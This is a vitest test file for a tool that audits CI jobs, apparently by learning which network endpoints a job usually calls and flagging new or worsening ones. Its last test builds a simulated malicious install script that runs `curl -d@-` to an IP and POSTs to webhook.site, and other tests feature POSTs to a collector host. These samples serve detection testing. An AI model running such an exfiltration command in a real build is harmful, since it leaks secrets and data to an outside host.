import { describe, expect, it } from "vitest";
import { exec } from "../events/make-events.js";
import { auditedJob, calls, installScript, subjects, usual } from "./audited-job.js";

/** Another host of a domain that the job calls; if the package manager fetches from it, that is expected churn. */
const shard = (pid = 8, request = "GET /left-pad") =>
  calls(pid, "mirror.example.org", "8.8.4.4", { requests: [request] });
const collector = (pid: number, ...requests: string[]) =>
  calls(pid, "collector.example", "203.0.113.9", { port: 8443, requests });

async function learnedJob(options: Parameters<typeof auditedJob>[0] = {}) {
  const audited = auditedJob(options);
  await audited.learn();
  return audited;
}

describe("a new endpoint", () => {
  it("that is expected churn is recorded and shown, and not pushed", async () => {
    const { run, pushed } = await learnedJob();
    const { detections } = await run([...usual(), ...shard()]);
    expect(detections).toMatchObject([{ kind: "new-endpoint", severity: "info" }]);
    expect(await pushed()).toEqual([]);
  });

  it("is pushed whatever it is, where the user wants that", async () => {
    const { run, pushed } = await learnedJob({ notifyFrom: "info" });
    await run([...usual(), ...shard()]);
    expect(await pushed()).toEqual(["mirror.example.org:443"]);
  });

  it("is told again by a later call that is worse, of the same run or of another one", async () => {
    const { start, run, pushed } = await learnedJob();
    const first = await start();
    await first.observe([...usual(), ...installScript(), ...shard()]);
    const other = await run([...usual(), ...installScript(), ...shard(30, "POST /u")]);
    const later = await first.observe(shard(30, "POST /u"));
    expect(other.detections).toMatchObject([
      { kind: "new-behavior", endpoint: { host: "mirror.example.org" } },
    ]);
    expect(other.detections[0]?.subject).toBe(
      `mirror.example.org:443 ${other.detections[0]?.severity}`,
    );
    expect(later.detections).toEqual([]);
    expect(await pushed()).toEqual(subjects(other));
  });

  it("is not told again by calls that are no worse", async () => {
    const { run, pushed } = await learnedJob();
    await run([...usual(), ...installScript(), ...collector(30, "POST /u"), ...collector(7)]);
    await run([...usual(), ...installScript(), ...collector(30, "POST /u"), ...collector(7)]);
    expect(await pushed()).toEqual(["collector.example:8443"]);
  });
});

describe("while a baseline is learning", () => {
  it("a new endpoint is told only if it is bad in any job", async () => {
    const { run, pushed } = auditedJob();
    const report = await run([...usual(), ...shard(), ...calls(7, "new.example", "192.0.2.77")]);
    expect(report.detections).toEqual([]);
    const bad = [
      ...installScript(),
      exec(31, ["curl", "-d@-", "203.0.113.50"], { parent: 30 }),
      ...calls(31, "webhook.site", "203.0.113.50", { requests: ["POST /u"] }),
    ];
    const { detections } = await run([...usual(), ...bad]);
    expect(detections).toMatchObject([{ kind: "new-endpoint", subject: "webhook.site:443" }]);
    expect(["high", "critical"]).toContain(detections[0]?.severity);
    expect(await pushed()).toEqual(["webhook.site:443"]);
  });
});
